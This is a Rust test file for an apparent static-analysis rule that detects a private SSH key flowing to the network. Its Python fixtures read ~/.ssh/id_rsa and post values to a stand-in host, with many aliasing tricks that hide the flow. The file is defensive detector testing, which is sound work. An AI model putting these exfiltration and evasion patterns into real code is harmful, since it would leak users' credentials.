//! Dictionaries that are read under a constant key: what is kept under another one does not come out, unless somebody
//! may have moved it. `KEY` stands for the contents of a private key.

use super::ways;

const HEAD: &str = "import os\nimport requests\n\nSITE = 'https://x.example.net'\n\n\n\
                    def send(body):\n    requests.post(SITE, json=body)\n\n\n";

/// Whether the key is found to be sent.
fn is_found(case: &str) -> bool {
    let text = format!("{HEAD}{}", case.replace("KEY", "open(os.path.expanduser('~/.ssh/id_rsa')).read()"));
    !ways(&[("a.py", &text)], "AL-FLOW-key-file-to-network").is_empty()
}

#[test]
fn what_is_kept_under_another_key_is_not_sent() {
    for case in APART {
        assert!(!is_found(case), "{case}");
    }
}

#[test]
fn what_may_have_come_under_the_key_is_sent() {
    for case in TOGETHER {
        assert!(is_found(case), "{case}");
    }
}

#[test]
fn another_module_may_move_what_a_module_holds() {
    let text = format!("{HEAD}p = {{'a': open(os.path.expanduser('~/.ssh/id_rsa')).read(), 'b': 1}}\nsend(p['b'])\n");
    let other = "from p import a\n\na.p['b'] = a.p['a']\n";
    let files = [("p/__init__.py", ""), ("p/a.py", text.as_str()), ("p/b.py", other)];
    assert_eq!(ways(&files, "AL-FLOW-key-file-to-network").len(), 1);
}

/// Nothing but what is stored under the key that is read is sent.
const APART: &[&str] = &[
    r#"
import subprocess


def f(x):
    p = {"env": KEY, "args": x}
    subprocess.run(p["args"], env=p["env"])
    send(p["args"])
"#,
    r#"
def f(x):
    p = dict(deb=KEY, options=x)
    send(p.get("options"))
"#,
    r#"
send({"a": KEY, "b": 3}["b"])
"#,
    r#"
def f(x):
    p = {"deb": KEY, "options": x}
    send(p["options"])
"#,
    r#"
p = {"deb": KEY, "options": 1}
send(p["options"])
"#,
    r#"
def f(x):
    p = {"deb": KEY, "options": x}
    requests.post(SITE, json=p["options"])
    return p["deb"]
"#,
    r#"
def f(x):
    p = {"deb": KEY, "options": x}
    print(p)
    send(p.pop("options"))
"#,
    r#"
def f(x):
    p = {"deb": KEY}
    if "options" in p:
        del p["options"]
    send(p.setdefault("options", x))
"#,
    r#"
def f(x):
    p = {}
    p["deb"] = KEY
    p["options"] = x
    send(p["options"])
"#,
    r#"
def f(x):
    p = {}
    p.update(deb=KEY)
    p.update({"options": x})
    send(p.get("options", 3))
"#,
];

/// The key is sent, or may be.
const TOGETHER: &[&str] = &[
    r#"
def f(x):
    p = {"deb": KEY}
    q = p
    q["options"] = q["deb"]
    send(p["options"])
"#,
    r#"
def f(x):
    p = q = {"deb": KEY}
    q["options"] = q["deb"]
    send(p["options"])
"#,
    r#"
def f():
    p = {"deb": KEY, "options": []}
    p["options"].append(p["deb"])
    send(p["options"])
"#,
    r#"
class A:
    pass


def f():
    p = {"deb": KEY, "options": A()}
    p["options"].x = p["deb"]
    send(p["options"])
"#,
    r#"
def f():
    p = {"deb": "a", "options": "b"}
    p["options"] += str(KEY)
    send(p["options"])
"#,
    r#"
def f():
    p = {"deb": KEY, "options": 1}
    p["options"] = p["mid"] = p["deb"]
    send(p["options"])
"#,
    r#"
def f():
    p = {"deb": KEY}
    (lambda d: d.update(options=d["deb"]))(p)
    send(p["options"])
"#,
    r#"
def f():
    p = {"deb": KEY}
    [d.update(options=d["deb"]) for d in (p,)]
    send(p["options"])
"#,
    r#"
def f():
    p = {"a": 1}
    p["op" + "tions"] = KEY
    send(p["options"])
"#,
    r#"
def f():
    p = {"a": KEY}
    k = "b"
    if os.name:
        k = "a"
    send(p[k])
"#,
    r#"
def f():
    p = {"a": 1}
    p["op" "tions"] = KEY
    send(p["options"])
"#,
    r#"
def f():
    p = {"deb": KEY, "options": []}
    q = p.copy()
    q["options"].append(q["deb"])
    send(p["options"])
"#,
    r#"
def f():
    p = {"deb": KEY}

    def g(d=p):
        d["options"] = d["deb"]

    g()
    send(p["options"])
"#,
    r#"
import collections


def f():
    p = collections.defaultdict(lambda: p["deb"])
    p["deb"] = KEY
    send(p["options"])
"#,
    r#"
def f():
    p = {"deb": KEY}
    p.__setitem__("options", p["deb"])
    send(p["options"])
"#,
    r#"
def f():
    p = {"deb": KEY}
    exec("p['options'] = p['deb']")
    send(p["options"])
"#,
    r#"
def f():
    p = {"deb": KEY, "options": [[]]}
    for x in p["options"]:
        x.append(p["deb"])
    send(p["options"])
"#,
    r#"
def f():
    p = {"deb": KEY}
    for p["options"] in [p["deb"]]:
        send(p["options"])
"#,
    r#"
import sys


def g():
    d = sys._getframe(1).f_locals["p"]
    d["options"] = d["deb"]


def f():
    p = {"deb": KEY}
    g()
    send(p["options"])
"#,
    r#"
def f():
    p = dict.fromkeys(["options"], KEY)
    send(p["options"])
"#,
    r#"
def f():
    p = {"a": 1}
    send(p.get("options", KEY))
"#,
    r#"
p = {"deb": KEY}


def g():
    global p
    p = {"options": KEY}


g()
send(p["options"])
"#,
    r#"
p = {"deb": KEY}
globals()["p"]["options"] = globals()["p"]["deb"]
send(p["options"])
"#,
    r#"
def g(d):
    d["options"] = d["deb"]


def f(x):
    p = {"deb": KEY}
    g(p)
    send(p["options"])
"#,
    r#"
def f():
    p = {"deb": KEY}
    for d in [p]:
        d["options"] = d["deb"]
    send(p["options"])
"#,
    r#"
class A:
    pass


def f():
    p = {"deb": KEY}
    a = A()
    a.d = p
    a.d["options"] = a.d["deb"]
    send(p["options"])
"#,
    r#"
def f():
    p = {"deb": "a"}
    p |= {"options": KEY}
    send(p["options"])
"#,
    r#"
def f():
    p = {"deb": KEY}
    locals()["p"]["options"] = p["deb"]
    send(p["options"])
"#,
    r#"
def f():
    p = {"deb": KEY}
    for k in ("deb", "options"):
        p[k] = p["deb"]
    send(p["options"])
"#,
    r#"
def f():
    p = {"deb": KEY, "options": []}
    for v in p.values():
        v.append(p["deb"])
    send(p["options"])
"#,
    r#"
def f():
    p = {"deb": KEY}
    match p:
        case q:
            q["options"] = q["deb"]
    send(p["options"])
"#,
    r#"
def f():
    p = {"deb": KEY}
    m = p.update
    m(options=p["deb"])
    send(p["options"])
"#,
    r#"
def f():
    p = {"deb": KEY, "options": {}}
    p["options"]["x"] = p["deb"]
    send(p["options"])
"#,
    r#"
def f():
    p = {"options": {}}
    p["options"]["x"] = KEY
    send(p["options"])
"#,
    r#"
def f():
    p = {"deb": KEY}

    def g():
        p["options"] = p["deb"]

    g()
    send(p["options"])
"#,
    r#"
class D(dict):
    def __missing__(self, k):
        return self["deb"]


dict = D


def f():
    p = dict(deb=KEY)
    send(p["options"])
"#,
    r#"
def f():
    p = {"deb": KEY, "options": []}
    x = p["options"]
    x.append(p["deb"])
    send(p["options"])
"#,
    r#"
def f():
    p = {"deb": KEY, "options": []}
    x = p.get("options") or []
    x += [p["deb"]]
    send(p["options"])
"#,
    r#"
def f():
    p = {"deb": KEY, "options": []}
    x, y = p["options"], p["deb"]
    x.append(y)
    send(p["options"])
"#,
    r#"
def f(x):
    p = {"deb": KEY, "options": x}
    send(p["deb"])
"#,
    r#"
def f(x):
    p = {}
    p["deb"] = KEY
    send(p.get("deb"))
"#,
    r#"
def f():
    p = {"deb": KEY}
    p.setdefault("options", []).append(p["deb"])
    send(p["options"])
"#,
    r#"
import operator


def f():
    p = {"deb": KEY}
    operator.setitem(p, "options", p["deb"])
    send(p["options"])
"#,
    r#"
def f(x):
    p = {"deb": KEY}
    send(dict(**p)["options"])
"#,
    r#"
def f(x):
    p = {"deb": KEY}
    q = {"a": 1, x: p["deb"]}
    send(q["options"])
"#,
    r#"
def f(x):
    p = {"deb": KEY}
    q = {"a": 1, **p}
    send(q["options"])
"#,
    r#"
class D(dict):
    def __setitem__(self, k, v):
        super().__setitem__("options", v)


def f():
    p = D()
    p["deb"] = KEY
    send(p["options"])
"#,
    r#"
def f():
    p = {"deb": KEY}
    dict.update(p, options=p["deb"])
    send(p["options"])
"#,
    r#"
def f(k):
    p = {"deb": KEY}
    send(p[k])
"#,
    r#"
def f(k):
    p = {}
    p[k] = KEY
    send(p["options"])
"#,
    r#"
def f():
    p = {"deb": KEY}
    p["options"], x = p["deb"], 1
    send(p["options"])
"#,
    r#"
def f():
    p = {}
    p.update(options=KEY)
    send(p["options"])
"#,
    r#"
def f():
    p = {}
    p.update(KEY)
    send(p["options"])
"#,
    r#"
def f():
    p = {"deb": KEY}
    vars()["p"].update(options=p["deb"])
    send(p["options"])
"#,
    r#"
def f(x):
    g(p := {"deb": KEY})
    send(p["options"])


def g(d):
    d["options"] = d["deb"]
"#,
    r#"
import contextlib


def f():
    p = {"deb": KEY}
    with contextlib.nullcontext(p["deb"]) as p["options"]:
        send(p["options"])
"#,
    r#"
def f():
    p = {"deb": KEY}
    yield p
    send(p["options"])
"#,
];
